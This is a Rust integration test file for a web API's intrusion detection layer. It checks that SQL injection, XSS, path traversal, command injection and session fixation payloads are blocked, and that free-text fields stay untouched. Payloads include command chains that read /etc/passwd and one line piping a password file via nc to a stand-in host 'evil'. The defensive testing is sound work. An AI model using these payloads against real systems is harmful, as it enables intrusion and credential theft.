//! Intrusion detection over real HTTP, and the corpus targets in-process.

use std::path::Path;

use serde_json::json;

use crate::common::{error_code, Opts, TestServer};
use frenly::apisec::ids::eval;

/// Assert a 403 `request_blocked` naming `family` and the response's request
/// id, and never echoing `payload`.
async fn assert_blocked(resp: reqwest::Response, family: &str, payload: &str) {
    let rid = resp
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .unwrap()
        .to_string();
    let (status, code, body) = error_code(resp).await;
    assert_eq!((status, code.as_str()), (403, "request_blocked"), "{body}");
    let msg = body["error"]["message"].as_str().unwrap();
    assert!(msg.contains(&rid), "request id missing: {msg}");
    assert!(msg.contains(family), "family missing: {msg}");
    let text = body.to_string();
    assert!(!text.contains(payload), "payload echoed: {text}");
}

#[test]
fn corpus_targets_hold() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/corpus");
    let records = eval::load(&dir).unwrap();
    let rep = eval::evaluate(&records);
    let table = eval::table(&rep);
    assert_eq!(
        rep.agent_benign.blocked, 0,
        "agent-benign false positives: {:?}\n{table}",
        rep.agent_benign.blocked_ids
    );
    for fam in ["sqli", "xss", "lfi", "rce"] {
        let row = &rep.attacks[fam];
        assert!(row.rate() >= 80.0, "{fam} detection below 80 %\n{table}");
    }
    assert!(
        rep.crs_benign.rate() <= 10.0,
        "CRS benign FP above 10 %\n{table}"
    );
    assert!(
        rep.prefilter_mismatches.is_empty(),
        "the clean-value shortcut changed verdicts: {:?}",
        rep.prefilter_mismatches
    );
}

#[tokio::test]
async fn attacks_in_every_part_of_the_request_are_blocked() {
    let s = TestServer::start().await;
    let r = s
        .get("/api/tasks?q=1%27%20or%20%271%27%3D%271")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "sqli", "or '1'='1").await;
    let r = s
        .get("/api/tasks/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "xss", "<script>").await;
    let r = s
        .get("/api/tasks")
        .header("Cookie", "theme=..%2F..%2F..%2Fetc%2Fpasswd")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "lfi", "etc/passwd").await;
    let r = s
        .get("/api/tasks")
        .header("X-Forwarded-Host", "a;cat /etc/passwd")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "rce", "cat /etc/passwd").await;
    // headers with a fixed grammar are skipped only when the value parses
    // under it, not when it merely uses the grammar's characters
    let r = s
        .get("/api/tasks")
        .header("Accept-Language", "en;cat /etc/passwd")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "rce", "cat /etc/passwd").await;
    let r = s
        .get("/api/tasks")
        .header(
            "Sec-Fetch-Site",
            "-1 UNION SELECT username,password FROM users--",
        )
        .send()
        .await
        .unwrap();
    assert_blocked(r, "sqli", "UNION SELECT").await;
    let r = s
        .get("/api/tasks")
        .header(
            "Sec-CH-UA",
            "\"Chromium\";v=\"118\", \"1 UNION SELECT 1\";v=\"99\"",
        )
        .send()
        .await
        .unwrap();
    assert_blocked(r, "sqli", "UNION SELECT").await;
    // ... while a browser's own values in those headers still pass
    let r = s
        .admin_get("/api/tasks")
        .header("Accept-Language", "en-US,en;q=0.9,de;q=0.8")
        .header(
            "Sec-CH-UA",
            "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"",
        )
        .header("Sec-Fetch-Site", "same-origin")
        .header("If-None-Match", "W/\"5e15153d-120f\"")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = s
        .admin_post(
            "/api/tasks",
            &json!({"title": "t", "priority": "high' union select password from users--"}),
        )
        .send()
        .await
        .unwrap();
    assert_blocked(r, "sqli", "union select").await;
    let r = s
        .admin_post(
            "/api/tasks",
            &json!({"title": "t", "input": {}, "x": {"<svg/onload=alert(1)>": 1}}),
        )
        .send()
        .await
        .unwrap();
    assert_blocked(r, "xss", "onload").await;
    // credentials are never inspected: an odd key is a 401, not a block
    let r = s
        .get("/api/tasks")
        .header("X-API-Key", "' or 1=1 --")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
}

#[tokio::test]
async fn free_text_fields_carry_code_untouched() {
    let s = TestServer::start().await;
    let body = json!({
        "title": "Fix: ' OR 1=1 -- in the login <form>",
        "description": "Review this:\n```sql\nSELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; --\n```\n<script>alert(document.cookie)</script> <a onclick=\"x()\">\n$ cat ../../etc/passwd | nc evil 80; rm -rf / && curl http://169.254.169.254/",
        "priority": "normal",
        "input": {"cmd": "$(whoami)", "sql": "1 UNION SELECT null", "nested": [{"path": "../../etc/shadow"}]}
    });
    let r = s.admin_post("/api/tasks", &body).send().await.unwrap();
    assert_ne!(r.status(), 403, "a task's free text was blocked");
    let r = s
        .admin_get("/api/tasks?q=select+the+union+of+two+drop+tables&status=done&limit=10")
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403, "an English search was blocked");
}

#[tokio::test]
async fn deep_json_is_a_400_not_a_crash() {
    let s = TestServer::start().await;
    let mut body = "[".repeat(10_000);
    body.push_str(&"]".repeat(10_000));
    let r = s
        .post("/api/tasks")
        .header("X-API-Key", s.admin())
        .header("Content-Type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    let (status, code, _) = error_code(r).await;
    assert_eq!((status, code.as_str()), (400, "bad_request"));
    // and the server is still there
    assert_eq!(s.get("/healthz").send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn detect_mode_lets_attacks_through_and_audits_them() {
    let s = TestServer::with(Opts::default().config("[ids]\nmode = \"detect\"\n")).await;
    let r = s
        .get("/api/tasks?id=1%27%20or%20%271%27%3D%271")
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403);
    let log = s.data_dir().join("security_audit.log");
    let mut found = String::new();
    for _ in 0..50 {
        found = std::fs::read_to_string(&log).unwrap_or_default();
        if found.contains("security_violation") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let line = found
        .lines()
        .find(|l| l.contains("security_violation"))
        .unwrap_or_else(|| panic!("no security_violation in {found}"));
    let ev: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(ev["violation_type"], "sqli");
    assert!(ev["details"].as_str().unwrap().contains("query:id"), "{ev}");
    assert!(
        !line.contains("or '1'='1") && !line.contains("%27"),
        "payload in the audit: {line}"
    );
}

#[tokio::test]
async fn family_route_and_field_overrides() {
    let cfg = "[ids.families]\nxss = \"detect\"\n\n[ids.routes.\"/api/agent\"]\nmode = \"off\"\n\n[ids.routes.\"/api/tasks\"]\nexclude_fields = [\"query:debug\", \"meta.note\"]\n";
    let s = TestServer::with(Opts::default().config(cfg)).await;
    // xss only detected, sqli still blocked
    let r = s
        .get("/api/tasks?x=%3Cscript%3Ealert(1)%3C/script%3E")
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403);
    let r = s
        .get("/api/tasks?x=1%27%20or%20%271%27%3D%271")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // the route switched off
    let r = s
        .get("/api/agent?x=1%27%20or%20%271%27%3D%271")
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403);
    // one excluded field of one route; the same payload elsewhere is blocked
    let r = s
        .get("/api/tasks?debug=..%2F..%2Fetc%2Fpasswd")
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403);
    let r = s
        .get("/api/users?debug=..%2F..%2Fetc%2Fpasswd")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = s
        .admin_post(
            "/api/tasks",
            &json!({"title": "t", "meta": {"note": "../../etc/passwd"}}),
        )
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), 403);
    let r = s
        .admin_post(
            "/api/tasks",
            &json!({"title": "t", "meta": {"other": "../../etc/passwd"}}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
}

/// `GET target` sent as raw bytes on `conn` (a fresh connection, closed
/// after the answer), with the API key: `(status, headers and body as text)`.
async fn raw_get<C>(conn: C, key: &str, target: &[u8]) -> (u16, String)
where
    C: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let mut req = b"GET ".to_vec();
    req.extend_from_slice(target);
    req.extend_from_slice(
        format!(" HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\nConnection: close\r\n\r\n").as_bytes(),
    );
    let text = crate::common::exchange(conn, &req).await;
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status line: {text:?}"));
    (status, text)
}

/// Payloads typed into the request target as they are (curl, Python's
/// `http.client`: `<`, `>`, `"`, a backtick, raw non-ASCII bytes), which
/// hyper's URI parser refuses on its own with a bare 400, reach every
/// layer: the IDS blocks the attack in the contract's shape, a harmless
/// search is served, a bad path parameter is a 400 `bad_request`.
#[tokio::test]
async fn raw_payloads_in_the_request_target_meet_the_ids() {
    let s = &TestServer::with(Opts::default().plain()).await;
    let send = |target: &'static [u8]| async move {
        let conn = tokio::net::TcpStream::connect(s.addr).await.unwrap();
        raw_get(conn, s.admin(), target).await
    };
    let blocked = [
        &b"/api/tasks?q=<script>alert(1)</script>"[..],
        b"/api/tasks?q=\"><img/src=x/onerror=alert(1)>",
        b"/api/tasks?q=`id`;cat</etc/passwd",
    ];
    for target in blocked {
        let (st, text) = send(target).await;
        let shown = String::from_utf8_lossy(target);
        assert_eq!(st, 403, "{shown}: {text}");
        assert!(text.contains("\"request_blocked\""), "{shown}: {text}");
        assert!(
            text.to_ascii_lowercase().contains("x-request-id: "),
            "{text}"
        );
    }
    let served = send(b"/api/tasks?q=\"quarterly\"").await;
    assert_eq!(served.0, 200, "{}", served.1);
    assert!(served.1.contains("\"items\""), "{}", served.1);
    let bad = send(b"/api/tasks/\xff\xfe").await;
    assert_eq!(bad.0, 400, "{}", bad.1);
    assert!(bad.1.contains("\"bad_request\""), "{}", bad.1);
}

/// The same over TLS, the embedded default: the first request line is
/// normalised after the handshake, so a raw `<script>` in the target is a
/// 403 `request_blocked` there too.
#[tokio::test]
async fn raw_payloads_in_the_request_target_meet_the_ids_over_tls() {
    let s = TestServer::start().await;
    assert!(s.tls);
    let (st, text) = raw_get(
        s.tls_connect().await,
        s.admin(),
        b"/api/tasks?q=<script>alert(1)</script>",
    )
    .await;
    assert_eq!(st, 403, "{text}");
    assert!(text.contains("\"request_blocked\""), "{text}");
}

/// Other applications' session cookies (a browser sends every cookie of
/// `localhost`) pass; a malformed JSON body on Frenly's own routes reaches
/// the handler's 400 instead of having its free text judged as structure
/// (a 403 that would count towards a ban).
#[tokio::test]
async fn session_cookies_and_malformed_task_bodies_are_not_attacks() {
    let s = TestServer::start().await;
    for cookie in [
        "sessionid=7h3k2j1l0p9o; csrftoken=abc",
        "JSESSIONID=1A2B3C4D5E6F",
        "PHPSESSID=abc123; connect.sid=s%3AaBcD.eFg; laravel_session=x",
    ] {
        let r = s
            .admin_get("/api/tasks?status=done")
            .header("Cookie", cookie)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{cookie}");
    }
    let desc = "Review: os.system('rm -rf /tmp/x'); SELECT * FROM users WHERE id='1' OR 1=1 --";
    for body in [
        format!(r#"{{"title": "fix", "description": "{desc}", "score": NaN}}"#),
        format!("\u{feff}{{\"title\": \"fix\", \"description\": \"{desc}\"}}"),
    ] {
        let r = s
            .admin_post("/api/tasks", &json!({}))
            .body(body.clone())
            .send()
            .await
            .unwrap();
        let (status, code, _) = error_code(r).await;
        assert_eq!((status, code.as_str()), (400, "bad_request"), "{body}");
    }
    // a session identifier passed as a parameter is still session fixation
    let r = s
        .get("/api/tasks?jsessionid=ABCDEF1234567890")
        .send()
        .await
        .unwrap();
    assert_blocked(r, "session", "ABCDEF1234567890").await;
}
